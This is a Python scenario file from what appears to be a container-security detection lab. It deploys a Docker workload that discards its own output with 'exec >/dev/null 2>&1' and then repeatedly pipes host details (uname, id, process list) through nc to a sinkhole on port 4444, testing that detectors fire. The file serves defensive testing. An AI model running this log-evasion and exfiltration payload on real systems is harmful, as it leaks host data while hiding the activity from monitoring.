"""A payload sends its own stdout and stderr to /dev/null: the container log stays empty."""

from __future__ import annotations

from lab import Lab, LabError, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class StdoutDevNull(Scenario):
    id = "docker.logging.stdout-devnull"
    title = "Payload redirects its stdout and stderr to /dev/null inside the container"
    kind = Kind.ADVERSARY
    techniques = ("T1562.006", "T1610")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.docker.output-discarded",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its payload really sends host details with nc to the sinkhole's port 4444 on the lab internet, "
            "outside the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
    })
    twin = "docker.logging.foreground-web"
    tags = ("logging", "defense-evasion")
    description = (
        "Deploys a container whose entrypoint shell first runs `exec >/dev/null 2>&1`, then sends "
        "host details to the sinkhole's port 4444 every two seconds with verbose output that now "
        "goes nowhere. The scenario checks the sinkhole received the data and that the engine's "
        "log of the container is empty."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        payload = (
            "exec >/dev/null 2>&1; "
            f"while true; do {{ uname -a; id; ps -eo pid,comm; }} | nc -v -w 2 -q 1 {sink} 4444; sleep 2; done"
        )
        lab.action("deploy a payload that silences its own output")
        worker = lab.deploy(WorkloadSpec(role="worker", networks=("lan", "inet"), command=("sh", "-c", payload)))
        lab.wait_for(lambda: bool(lab.sinkhole_records(peer=worker.addresses["inet"])), timeout=15,
                     what="the payload's data to reach the sinkhole")
        logs = lab.logs(worker)
        if logs.strip():
            raise LabError(f"the container log is not empty: {logs[:200]!r}")
